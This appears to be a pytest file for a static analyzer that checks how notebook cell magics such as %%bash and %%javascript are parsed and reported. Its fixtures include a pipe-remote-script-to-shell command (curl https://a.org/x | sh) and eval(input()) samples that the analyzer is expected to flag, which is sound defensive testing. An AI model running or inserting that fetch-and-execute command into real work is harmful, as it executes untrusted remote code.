"""Cells in other languages: read as a shell's, or told as what nobody read; never passed over in silence."""

from __future__ import annotations

import json

import pytest

from analyzers import analyze

DOWNLOAD = "curl https://a.org/x | sh\n"


@pytest.mark.parametrize("magic", ["%%bash", "%%sh", "%%bash --out said", "%%script bash"])
@pytest.mark.parametrize("before", ["", "x = 1\n", "x = eval(input())\n\n"])
def test_a_cell_of_a_shell_is_read_as_one(magic: str, before: str) -> None:
    """Its findings stand in the lines of the text as sent, beside those of the Python above."""
    report = analyze(f"{before}{magic}\n{DOWNLOAD}")
    line = before.count("\n") + 2
    assert ("FH702", line) in {(finding.rule, finding.span.line) for finding in report.findings}
    assert ("FH101" in {finding.rule for finding in report.findings}) is ("eval" in before)
    assert (report.parse, report.verdict, report.unparsed) == ("repaired", "fail", ())
    assert "net.outbound" in report.capabilities


@pytest.mark.parametrize("magic", ["%%javascript", "%%html", "%%perl", "%%script perl", "%%writefile x.py"])
def test_a_cell_that_nobody_reads_is_unparsed(magic: str) -> None:
    """From its magic to its end, so that the report is no pass."""
    report = analyze(f"x = 1\n{magic}\nsystem('x')\n")
    assert report.verdict == "incomplete"
    assert report.unparsed[0][0] == 2


@pytest.mark.parametrize("magic", ["%%time", "%%capture out"])
def test_a_cell_of_python_is_python(magic: str) -> None:
    """The magic is taken off, and what follows is read."""
    report = analyze(f"{magic}\nx = eval(input())\n")
    assert {finding.rule for finding in report.findings} == {"FH101"}
    assert report.unparsed == ()


def test_what_only_looks_like_a_cell_is_none() -> None:
    """In a string, and in a program that parses, where it is an operator."""
    assert analyze('x = """\n%%bash\ncurl https://a.org | sh\n"""\n').parse == "full"
    assert analyze('  x = """\n%%bash\ncurl https://a.org | sh\n"""\n').verdict == "pass"


def test_notebooks_tell_cells_that_nobody_reads() -> None:
    """Likewise, for each cell of its own."""
    cells = [
        {"cell_type": "code", "source": ["%%javascript\n", "alert(1)\n"]},
        {"cell_type": "code", "source": ["%%bash\n", DOWNLOAD]},
        {"cell_type": "code", "source": ["%%python3\n", "x = 1\n"]},
    ]
    report = analyze(json.dumps({"cells": cells, "nbformat": 4}, indent=1), "notebook")
    assert len(report.unparsed) == 1
    assert "FH702" in {finding.rule for finding in report.findings}
    report = analyze(json.dumps({"cells": cells[:1], "nbformat": 4}, indent=1), "notebook")
    assert report.verdict == "incomplete"
